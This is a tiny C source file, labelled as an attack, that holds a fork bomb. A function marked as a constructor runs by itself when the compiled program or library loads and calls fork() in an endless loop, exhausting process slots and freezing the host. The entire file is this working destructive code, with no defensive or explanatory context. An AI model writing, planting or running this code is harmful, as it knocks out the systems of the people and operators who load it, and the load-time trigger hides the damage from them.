/* Attack: fork bomb. */
#include <unistd.h>
__attribute__((constructor)) static void bomb(void)
{
    for (;;) fork();
}
